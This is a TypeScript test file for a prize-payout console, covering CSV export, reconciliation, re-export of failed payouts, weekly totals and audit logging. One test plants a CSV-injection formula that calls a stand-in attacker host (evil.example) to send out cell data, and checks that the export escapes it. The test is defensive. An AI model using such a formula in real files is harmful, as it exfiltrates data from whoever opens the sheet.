import { parse as parseCsv } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { consoleSession } from '../../../test/console.ts'
import { testDatabases } from '../../../test/databases.ts'
import { createTestApp, type TestApp } from '../../../test/harness.ts'
import { payouts, prizeAwards, users } from '../../db/schema.ts'
import { exportHeader } from './payouts.csv.ts'

/** An award and its pending payout, as a winners job leaves them. */
async function award(
  t: TestApp,
  a: {
    competition: string
    period: string
    rank: number
    prize?: 'cash' | 'smartphone'
    amountTaka?: number
  },
) {
  const db = t.database.db
  const wallet = `0171${String(Math.floor(Math.random() * 1e7)).padStart(7, '0')}`
  const [user] = await db.insert(users).values({ msisdn: wallet }).returning()
  const prize = a.prize ?? 'cash'
  const amountTaka = a.amountTaka ?? 10
  const [row] = await db
    .insert(prizeAwards)
    .values({
      ...a,
      userId: user?.id ?? 0,
      payoutMsisdn: wallet,
      prize,
      amountTaka,
      score: 20,
      elapsedMs: 1000,
    })
    .returning()
  const [payout] = await db
    .insert(payouts)
    .values({ awardId: row?.id ?? 0, msisdn: wallet, amountTaka, prize })
    .returning()
  return { id: payout?.id ?? 0, wallet }
}

type Entry = { action: string; actor: string | null; subject: string; before: unknown; after: unknown }

describe.each(testDatabases)('the console’s payouts on $name', (kind) => {
  let t: TestApp
  let finance: string
  beforeEach(async () => {
    t = await createTestApp(kind)
    finance = await consoleSession(t, 'finance@example.com', 'finance')
  })
  afterEach(() => t.close())

  const call = (method: 'GET' | 'POST', url: string, payload?: object) =>
    t.app.inject({ method, url, headers: { cookie: finance }, ...(payload ? { payload } : {}) })
  const audit = async (): Promise<Entry[]> =>
    (
      await t.app.inject({
        method: 'GET',
        url: '/api/console/audit',
        headers: { cookie: await consoleSession(t, `admin${Math.random()}@example.com`, 'admin') },
      })
    )
      .json()
      .data.entries.filter((entry: Entry) => entry.action.startsWith('payouts.'))
  const statusOf = async (id: number) => {
    const lines = (await call('GET', '/api/console/payouts')).json().data
    for (const batch of [lines.pending.lines, lines.failed.lines])
      for (const line of batch) if (line.payoutId === id) return line.status
    return null
  }

  it('exports, reconciles, re-exports the failed one, and never pays a payout twice', async () => {
    const a = await award(t, { competition: 'daily_quiz', period: '2026-01-05', rank: 1 })
    const b = await award(t, { competition: 'daily_quiz', period: '2026-01-05', rank: 2 })
    const later = await award(t, { competition: 'daily_game', period: '2026-01-09', rank: 1 })

    const before = (await call('GET', '/api/console/payouts')).json().data
    expect(before.pending).toMatchObject({ count: 3, cashTaka: 30, from: '2026-01-05', to: '2026-01-09' })
    expect(before.pending.lines.map((line: { payoutId: number }) => line.payoutId)).toEqual([
      a.id,
      b.id,
      later.id,
    ])

    // The export takes the pending payouts of the range, as the wallet cash-in file.
    const exported = await call('POST', '/api/console/payouts/export', {
      from: '2026-01-05',
      to: '2026-01-05',
    })
    expect(exported.statusCode, exported.body).toBe(200)
    const file = exported.json().data
    expect(file).toMatchObject({ count: 2, cashTaka: 20 })
    expect(file.fileName).toBe(`payouts-2026-01-05-2026-01-05-${file.batch}.csv`)
    expect(file.csv).toBe(
      `${exportHeader}\n${a.id},${a.wallet},10,cash,daily_quiz,2026-01-05,1\n${b.id},${b.wallet},10,cash,daily_quiz,2026-01-05,2\n`,
    )
    // Nothing is in two exports.
    const again = await call('POST', '/api/console/payouts/export', { from: '2026-01-05', to: '2026-01-05' })
    expect(again.statusCode).toBe(409)
    expect(again.json().message).toBe('No payouts are waiting for 2026-01-05 to 2026-01-05.')

    // A file with a bad line changes nothing, and says which line.
    const bad = await call('POST', '/api/console/payouts/reconcile', {
      batch: file.batch,
      text: `payout_id,status\n${a.id},paid\n${b.id},lost\n`,
    })
    expect(bad.json().data).toEqual({
      applied: false,
      paid: 0,
      failed: 0,
      unchanged: 0,
      problems: [{ line: 3, message: "status must be 'paid' or 'failed', not 'lost'." }],
    })
    // A payout of another batch (here, not yet exported) is refused too.
    const foreign = await call('POST', '/api/console/payouts/reconcile', {
      batch: file.batch,
      text: `payout_id,status\n${later.id},paid\n`,
    })
    expect(foreign.json().data.problems).toEqual([
      { line: 2, message: `Payout ${later.id} has not been exported yet.` },
    ])
    expect(await statusOf(a.id)).toBe(null)

    const result = `payout_id,status,provider_ref\n${a.id},paid,TRX1\n${b.id},failed,WALLET_CLOSED\n`
    const reconciled = await call('POST', '/api/console/payouts/reconcile', {
      batch: file.batch,
      text: result,
    })
    expect(reconciled.json().data).toEqual({ applied: true, paid: 1, failed: 1, unchanged: 0, problems: [] })
    // The same file again changes nothing.
    const twice = await call('POST', '/api/console/payouts/reconcile', { batch: file.batch, text: result })
    expect(twice.json().data).toEqual({ applied: true, paid: 0, failed: 0, unchanged: 2, problems: [] })
    const overview = (await call('GET', '/api/console/payouts')).json().data
    expect(overview.failed.lines).toEqual([
      expect.objectContaining({
        payoutId: b.id,
        status: 'failed',
        batch: file.batch,
        providerRef: 'WALLET_CLOSED',
      }),
    ])
    expect(overview.batches).toEqual([
      expect.objectContaining({ batch: file.batch, count: 2, cashTaka: 20, exported: 0, paid: 1, failed: 1 }),
    ])

    // A paid payout can never be exported again; the failed one can, as a new batch.
    const paidAgain = await call('POST', '/api/console/payouts/reexport', { payoutIds: [a.id, b.id] })
    expect(paidAgain.statusCode).toBe(409)
    expect(paidAgain.json().message).toBe(
      `Only failed payouts can be exported again: payout ${a.id} is paid.`,
    )
    const retry = await call('POST', '/api/console/payouts/reexport', { payoutIds: [b.id] })
    expect(retry.statusCode, retry.body).toBe(200)
    const second = retry.json().data
    expect(second.batch).not.toBe(file.batch)
    expect(second.csv).toBe(`${exportHeader}\n${b.id},${b.wallet},10,cash,daily_quiz,2026-01-05,2\n`)
    expect((await call('POST', '/api/console/payouts/reexport', { payoutIds: [b.id] })).statusCode).toBe(409)
    // The first batch's file re-downloaded holds nothing now: one paid, one in the new batch.
    const lost = await call('GET', `/api/console/payouts/batches/${file.batch}/file`)
    expect(lost.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(lost.headers['content-disposition']).toBe(`attachment; filename="payouts-${file.batch}.csv"`)
    expect(lost.body).toBe(`${exportHeader}\n`)
    expect((await call('GET', `/api/console/payouts/batches/${second.batch}/file`)).body).toBe(second.csv)

    // The old result file cannot touch the re-exported payout; its own batch's file can.
    const stale = await call('POST', '/api/console/payouts/reconcile', { batch: file.batch, text: result })
    expect(stale.json().data.problems).toEqual([
      { line: 3, message: `Payout ${b.id} is in batch ${second.batch}, not ${file.batch}.` },
    ])
    const paid = await call('POST', '/api/console/payouts/reconcile', {
      batch: second.batch,
      text: `payout_id,status\n${b.id},paid\n`,
    })
    expect(paid.json().data).toMatchObject({ applied: true, paid: 1 })

    // Each change is in the audit log, by whom, with what it was before; the second upload is not a change.
    // Each download of a batch's file is in it too: it hands out wallet numbers.
    const entries = await audit()
    expect(entries.map((entry) => [entry.action, entry.subject])).toEqual([
      ['payouts.reconcile', `batch:${second.batch}`],
      ['payouts.download', `batch:${second.batch}`],
      ['payouts.download', `batch:${file.batch}`],
      ['payouts.reexport', `batch:${second.batch}`],
      ['payouts.reconcile', `batch:${file.batch}`],
      ['payouts.export', `batch:${file.batch}`],
    ])
    for (const entry of entries) expect(entry.actor).toBe('finance@example.com')
    expect(entries[5]).toMatchObject({
      before: { status: 'pending', payoutIds: [a.id, b.id] },
      after: { status: 'exported', from: '2026-01-05', to: '2026-01-05', count: 2, cashTaka: 20 },
    })
    expect(entries[4]).toMatchObject({ after: { paid: [a.id], failed: [b.id] } })
    expect(entries[3]).toMatchObject({
      before: [{ payoutId: b.id, status: 'failed', batch: file.batch, providerRef: 'WALLET_CLOSED' }],
      after: { status: 'exported', count: 1, cashTaka: 10 },
    })
    expect(entries[2]).toMatchObject({ before: null, after: { count: 0, cashTaka: 0, payoutIds: [] } })
    expect(entries[1]).toMatchObject({ after: { count: 1, cashTaka: 10, payoutIds: [b.id] } })
  })

  it('writes a formula-looking cell as text in the export and in the batch file again', async () => {
    // No route stores such a wallet; a row changed behind the product's back must still not run.
    const planted = await award(t, { competition: 'daily_quiz', period: '2026-01-05', rank: 1 })
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"01712345678")'
    await t.database.db.update(payouts).set({ msisdn: formula }).where(eq(payouts.id, planted.id))
    const exported = (
      await call('POST', '/api/console/payouts/export', { from: '2026-01-05', to: '2026-01-05' })
    ).json().data
    const again = await call('GET', `/api/console/payouts/batches/${exported.batch}/file`)
    for (const csv of [exported.csv, again.body]) {
      expect(csv).toBe(
        `${exportHeader}\n${planted.id},"'=HYPERLINK(""http://evil.example/?""&A1,""01712345678"")",10,cash,daily_quiz,2026-01-05,1\n`,
      )
      const [, row] = parseCsv(csv) as string[][]
      expect(row?.[1]).toBe(`'${formula}`)
    }
  })

  it('sums each week’s prizes by status and by kind, a month in the week it ends', async () => {
    const day = await award(t, { competition: 'daily_quiz', period: '2026-01-05', rank: 1 })
    await award(t, { competition: 'daily_game', period: '2026-01-09', rank: 1 })
    await award(t, { competition: 'weekly_special', period: '2026-01-03', rank: 1, amountTaka: 50 })
    await award(t, {
      competition: 'monthly_quiz',
      period: '2025-12',
      rank: 1,
      prize: 'smartphone',
      amountTaka: 0,
    })
    await award(t, { competition: 'monthly_quiz', period: '2025-12', rank: 3, amountTaka: 3000 })
    await call('POST', '/api/console/payouts/export', { from: '2026-01-05', to: '2026-01-05' })
    expect(await statusOf(day.id)).toBe(null)

    const response = await call('GET', '/api/console/payouts/weeks?weeks=3')
    expect(response.statusCode, response.body).toBe(200)
    const weeks = response.json().data.weeks
    // The clock is on Saturday 2026-01-10: this week, the last and the one before.
    expect(weeks.map((w: { week: string; lastDay: string }) => [w.week, w.lastDay])).toEqual([
      ['2026-01-10', '2026-01-16'],
      ['2026-01-03', '2026-01-09'],
      ['2025-12-27', '2026-01-02'],
    ])
    expect(weeks[0].total).toEqual({ count: 0, amountTaka: 0 })
    expect(weeks[1]).toMatchObject({
      total: { count: 3, amountTaka: 70 },
      byStatus: {
        pending: { count: 2, amountTaka: 60 },
        exported: { count: 1, amountTaka: 10 },
        paid: { count: 0, amountTaka: 0 },
        failed: { count: 0, amountTaka: 0 },
      },
      byPrize: { cash: { count: 3, amountTaka: 70 }, smartphone: { count: 0, amountTaka: 0 } },
    })
    expect(weeks[2]).toMatchObject({
      total: { count: 2, amountTaka: 3000 },
      byPrize: { cash: { count: 1, amountTaka: 3000 }, smartphone: { count: 1, amountTaka: 0 } },
    })
    expect((await call('GET', '/api/console/payouts/weeks?weeks=53')).json().message).toMatch(/1 to 52/)
  })

  it('refuses a bad range, a bad batch, an empty or oversized file, and a payout that does not exist', async () => {
    const backwards = await call('POST', '/api/console/payouts/export', {
      from: '2026-01-05',
      to: '2026-01-01',
    })
    expect(backwards.statusCode).toBe(400)
    expect(backwards.json().message).toBe('From (2026-01-05) must not be after To (2026-01-01).')
    const long = await call('POST', '/api/console/payouts/export', { from: '2025-01-01', to: '2026-01-01' })
    expect(long.json().message).toBe('The range may cover at most 93 days.')
    const notADate = await call('POST', '/api/console/payouts/export', {
      from: '2026-02-30',
      to: '2026-03-01',
    })
    expect(notADate.statusCode).toBe(400)
    expect(notADate.json().message).toMatch(/From must be a date written YYYY-MM-DD/)

    const noBatch = await call('POST', '/api/console/payouts/reconcile', {
      batch: 'x',
      text: 'payout_id,status\n',
    })
    expect(noBatch.json().message).toMatch(/There is no such batch/)
    const batch = '20260110T060000-abcdef'
    expect((await call('GET', `/api/console/payouts/batches/${batch}/file`)).statusCode).toBe(404)
    const empty = await call('POST', '/api/console/payouts/reconcile', { batch, text: '' })
    expect(empty.json().message).toMatch(/Choose the result file to upload/)
    const headerOnly = await call('POST', '/api/console/payouts/reconcile', {
      batch,
      text: 'payout_id,status\n',
    })
    expect(headerOnly.json().data.problems).toEqual([{ line: 1, message: 'The file holds no payouts.' }])
    const huge = await call('POST', '/api/console/payouts/reconcile', { batch, text: 'x'.repeat(1_200_000) })
    expect(huge.statusCode).toBe(413)
    const unknown = await call('POST', '/api/console/payouts/reexport', { payoutIds: [999] })
    expect(unknown.statusCode).toBe(404)
    expect(unknown.json().message).toBe('There is no payout 999.')
    expect((await call('POST', '/api/console/payouts/reexport', { payoutIds: [] })).json().message).toMatch(
      /Choose the failed payouts/,
    )
    expect(await audit()).toEqual([])
  })
})
